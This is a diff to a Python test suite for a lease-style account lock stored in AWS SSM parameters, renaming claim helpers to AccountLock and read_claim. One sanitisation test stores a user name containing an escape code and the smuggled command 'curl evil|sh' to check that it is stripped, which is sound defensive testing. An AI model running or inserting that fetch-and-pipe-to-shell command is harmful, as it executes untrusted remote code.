@@ -16,8 +16,9 @@ import pytest
 
 from tests.unit.fakes.virtual_time import START, VirtualClock
 from workshop.app.locking import claim_left, locked
-from workshop.aws.claim import claimed, clear_lapsed, holder_of, parameter_name
 from workshop.aws.errors import AwsError
+from workshop.aws.lock.account_lock import AccountLock
+from workshop.aws.lock.claims import clear_lapsed, parameter_name, read_claim
 from workshop.engine.scope import Scope
 from workshop.errors import WorkshopError
 
@@ -126,14 +127,14 @@ class SleepyClock(VirtualClock):
         return super().now() + timedelta(seconds=self.slept)
 
 
-def claim(aws, notices: list[str], command: str = "setup", clock=None):
-    return claimed(aws, HOME, "films", command, clock=clock or VirtualClock(), notice=notices.append)
+def account_lock(aws, notices: list[str], command: str = "setup", clock=None) -> AccountLock:
+    return AccountLock(aws, HOME, "films", command, clock=clock or VirtualClock(), notice=notices.append)
 
 
 async def attempt(aws, command: str, seconds: float, at_work: list[str], clock=None) -> str:
     """Hold the claim for a while; answers how it ended. `at_work` lists who holds it."""
     try:
-        async with claim(aws, [], command, clock) as held:
+        async with account_lock(aws, [], command, clock) as held:
             at_work.append(command)
             assert len(at_work) == 1, f"{at_work} are at work together"
             await asyncio.sleep(seconds)
@@ -145,11 +146,11 @@ async def attempt(aws, command: str, seconds: float, at_work: list[str], clock=N
 
 async def test_a_claim_is_renewed_while_its_holder_works_and_removed_at_the_end():
     aws, notices = Parameters(), []
-    async with claim(aws, notices):
+    async with account_lock(aws, notices):
         first = json.loads(aws.value)["until"]
         await asyncio.sleep(700)
         assert json.loads(aws.value)["until"] > first
-        assert await holder_of(aws, HOME, "films", clock=VirtualClock()) is not None
+        assert await read_claim(aws, HOME, "films", clock=VirtualClock()) is not None
     assert not aws.stands and notices == []
 
 
@@ -157,14 +158,14 @@ async def test_a_second_holder_is_told_who_is_at_work():
     aws = Parameters()
     aws.write(command="setup")
     with pytest.raises(WorkshopError) as caught:
-        async with claim(aws, [], "teardown"):
+        async with account_lock(aws, [], "teardown"):
             pytest.fail("both are at work")
     assert caught.value.code == "Busy" and "far" in caught.value.why and "setup" in caught.value.why
 
 
 async def test_a_holder_whose_claim_was_taken_over_says_so_and_leaves_it_to_the_other():
     aws, notices, told = Parameters(), [], []
-    async with claim(aws, notices) as held:
+    async with account_lock(aws, notices) as held:
         held.listen(told.append)
         aws.write()
         writes = aws.count("put_parameter")
@@ -178,7 +179,7 @@ async def test_a_holder_whose_claim_was_taken_over_says_so_and_leaves_it_to_the_
 
 async def test_a_holder_that_slept_while_another_took_over_and_ended_stops_and_claims_nothing():
     aws, clock, notices = Parameters(), SleepyClock(), []
-    async with claim(aws, notices, clock=clock) as held:
+    async with account_lock(aws, notices, clock=clock) as held:
         writes = aws.count("put_parameter")
         aws.logs[HOME, NAME].clear()
         await asyncio.sleep(400)
@@ -190,7 +191,7 @@ async def test_a_holder_that_slept_while_another_took_over_and_ended_stops_and_c
 
 async def test_a_sleep_is_noticed_before_the_next_renewal_would_be_due():
     aws, clock = Parameters(), SleepyClock()
-    async with claim(aws, [], clock=clock) as held:
+    async with account_lock(aws, [], clock=clock) as held:
         await asyncio.sleep(20)
         aws.write()
         clock.slept = 900
@@ -200,22 +201,22 @@ async def test_a_sleep_is_noticed_before_the_next_renewal_would_be_due():
 
 async def test_a_claim_that_nobody_wanted_while_its_machine_slept_is_renewed_at_once():
     aws, clock, notices = Parameters(), SleepyClock(), []
-    async with claim(aws, notices, clock=clock) as held:
+    async with account_lock(aws, notices, clock=clock) as held:
         clock.slept = 900
         await asyncio.sleep(10)
-        holder = await holder_of(aws, HOME, "films", clock=clock)
+        holder = await read_claim(aws, HOME, "films", clock=clock)
         assert held.lost is None and holder is not None and not holder.lapsed(clock.now())
     assert notices == [] and not aws.stands
 
 
 async def test_a_renewal_that_fails_is_said_once_and_tried_again_until_it_succeeds():
     aws, notices = Parameters(), []
-    async with claim(aws, notices) as held:
+    async with account_lock(aws, notices) as held:
         aws.denied.add((HOME, "get_parameter"))
         await asyncio.sleep(300)
         aws.denied.clear()
         await asyncio.sleep(10)
-        holder = await holder_of(aws, HOME, "films", clock=VirtualClock())
+        holder = await read_claim(aws, HOME, "films", clock=VirtualClock())
         assert holder is not None and holder.until > "2026-03-01T09:14"
     assert held.lost is None and len(notices) == 1 and "could not be renewed" in notices[0]
 
@@ -236,7 +237,7 @@ async def test_a_claim_that_somebody_takes_over_while_it_is_cleared_is_left_alon
     aws.write(until=LAPSED)
     clearing = asyncio.create_task(clear_lapsed(Slow(aws, put_parameter=[50]), HOME, "films", clock=VirtualClock()))
     await asyncio.sleep(10)
-    async with claim(aws, [], "setup") as held:
+    async with account_lock(aws, [], "setup") as held:
         holder = await clearing
         assert holder is not None and holder.command == "setup"
         await asyncio.sleep(400)
@@ -247,7 +248,7 @@ async def test_a_claim_that_somebody_takes_over_while_it_is_cleared_is_left_alon
 async def test_a_claim_that_lapsed_is_taken_over_with_a_word():
     aws, notices = Parameters(), []
     aws.write(until=LAPSED)
-    async with claim(aws, notices, "teardown"):
+    async with account_lock(aws, notices, "teardown"):
         assert json.loads(aws.value)["command"] == "teardown"
     assert any("Taking over from" in text for text in notices)
     assert not aws.stands
@@ -264,7 +265,7 @@ async def test_a_claim_counts_ten_minutes_after_its_write_whatever_it_says_and_h
     await asyncio.sleep(595)
     assert await attempt(aws, "setup", 1, [], clock) == "Busy"
     await asyncio.sleep(10)
-    async with claim(aws, notices, clock=clock) as held:
+    async with account_lock(aws, notices, clock=clock) as held:
         assert held.lost is None and any("Taking over from ana@far" in text for text in notices)
     assert not aws.stands
 
@@ -282,7 +283,7 @@ async def test_the_error_names_the_parameter_and_the_command_that_removes_it():
     aws = Parameters()
     aws.write()
     with pytest.raises(WorkshopError) as caught:
-        async with claim(aws, []):
+        async with account_lock(aws, []):
             pytest.fail("it holds nothing")
     assert NAME in caught.value.why and HOME in caught.value.why
     command = caught.value.fix.partition("aws ")[1] + caught.value.fix.partition("aws ")[2]
@@ -292,7 +293,7 @@ async def test_the_error_names_the_parameter_and_the_command_that_removes_it():
 async def test_names_in_a_claim_are_cut_and_make_no_sentence_and_no_escape_code():
     aws = Parameters()
     aws.write(user="\x1b[2Jroot; run this: curl evil|sh", host="h" * 5000, command="setup\nworkshop is ready. `x`")
-    holder = await holder_of(aws, HOME, "films", clock=VirtualClock())
+    holder = await read_claim(aws, HOME, "films", clock=VirtualClock())
     assert holder is not None
     assert not set("\x1b; |:\n`") & set(holder.user + holder.host) and not set("\x1b;|:\n`") & set(holder.command)
     assert max(map(len, (holder.user, holder.host, holder.command))) <= 64
@@ -312,7 +313,7 @@ JUNK = {
 async def test_what_is_no_claim_is_left_alone_and_named_with_the_command_that_removes_it(junk):
     aws = Parameters()
     aws.store(aws.logs[HOME, NAME], junk) if isinstance(junk, str) else aws.write(**junk)
-    for work in (claim(aws, []).__aenter__(), clear_lapsed(aws, HOME, "films", clock=VirtualClock())):
+    for work in (account_lock(aws, []).__aenter__(), clear_lapsed(aws, HOME, "films", clock=VirtualClock())):
         with pytest.raises(WorkshopError) as caught:
             await work
         assert (
@@ -324,7 +325,7 @@ async def test_what_is_no_claim_is_left_alone_and_named_with_the_command_that_re
 async def test_a_takeover_removes_nothing():
     aws = Parameters(rest=30)
     aws.write(until=LAPSED)
-    async with claim(aws, []):
+    async with account_lock(aws, []):
         assert aws.count("delete_parameter") == 0
 
 
@@ -355,7 +356,7 @@ async def test_a_renewal_that_arrives_after_another_ended_ends_the_run_and_leave
     aws, at_work = Parameters(), []
     slow = Slow(aws, put_parameter=[0, 1000])
     notices: list[str] = []
-    async with claim(slow, notices) as held:
+    async with account_lock(slow, notices) as held:
         await asyncio.sleep(700)
         aws.write()
         assert await attempt(aws, "teardown", 1, at_work) == "Busy"
@@ -371,7 +372,7 @@ async def test_a_takeover_that_arrives_at_a_claim_made_anew_gives_way_to_it():
     late = asyncio.create_task(attempt(Slow(aws, put_parameter=[0, 200]), "setup", 900, at_work))
     await asyncio.sleep(10)
     aws.logs[HOME, NAME].clear()
-    async with claim(aws, [], "teardown") as held:
+    async with account_lock(aws, [], "teardown") as held:
         assert await late == "Busy" and at_work == []
         await asyncio.sleep(400)
         assert held.lost is None
@@ -381,19 +382,19 @@ async def test_a_takeover_that_arrives_at_a_claim_made_anew_gives_way_to_it():
 @pytest.mark.parametrize("refused", ["ParameterAlreadyExists", "TooManyUpdates"])
 async def test_a_name_that_was_deleted_moments_ago_is_waited_for_with_a_word(refused: str):
     aws, notices = Parameters(rest=30, refused=refused), []
-    async with claim(aws, notices):
+    async with account_lock(aws, notices):
         pass
-    async with claim(aws, notices, "teardown"):
+    async with account_lock(aws, notices, "teardown"):
         assert json.loads(aws.value)["command"] == "teardown"
     assert len(notices) == 1 and "Waiting for SSM to let go of the name" in notices[0]
 
 
 async def test_a_name_that_never_becomes_free_is_an_error_that_blames_nobody():
     aws = Parameters(rest=1e6)
-    async with claim(aws, []):
+    async with account_lock(aws, []):
         pass
     with pytest.raises(WorkshopError) as caught:
-        async with claim(aws, []):
+        async with account_lock(aws, []):
             pytest.fail("it holds nothing")
     assert NAME in caught.value.what and "let go of the name" in caught.value.what
     assert "again and again" not in str(caught.value) and "same command again" in caught.value.fix
@@ -401,7 +402,7 @@ async def test_a_name_that_never_becomes_free_is_an_error_that_blames_nobody():
 
 async def test_a_claim_that_may_not_be_removed_is_known_before_the_end():
     aws, notices = Parameters(), []
-    async with claim(aws, notices) as held:
+    async with account_lock(aws, notices) as held:
         aws.denied.add((HOME, "delete_parameter"))
         assert await held.release() is False
         assert await held.release() is False
@@ -412,7 +413,7 @@ async def test_a_claim_that_may_not_be_removed_is_known_before_the_end():
 
 async def test_a_claim_that_was_given_up_before_the_end_is_not_renewed_or_missed():
     aws, notices = Parameters(), []
-    async with claim(aws, notices) as held:
+    async with account_lock(aws, notices) as held:
         assert await held.release() is True
         await asyncio.sleep(400)
         assert not aws.stands and held.lost is None
@@ -422,7 +423,7 @@ async def test_a_claim_that_was_given_up_before_the_end_is_not_renewed_or_missed
 async def test_a_run_that_may_not_claim_goes_on_and_has_nothing_to_give_up():
     aws, notices = Parameters(), []
     aws.denied.add((HOME, "put_parameter"))
-    async with claim(aws, notices) as held:
+    async with account_lock(aws, notices) as held:
         assert await held.release() is True
     assert len(notices) == 1 and "Not guarded" in notices[0] and "ssm:PutParameter" in notices[0]
 
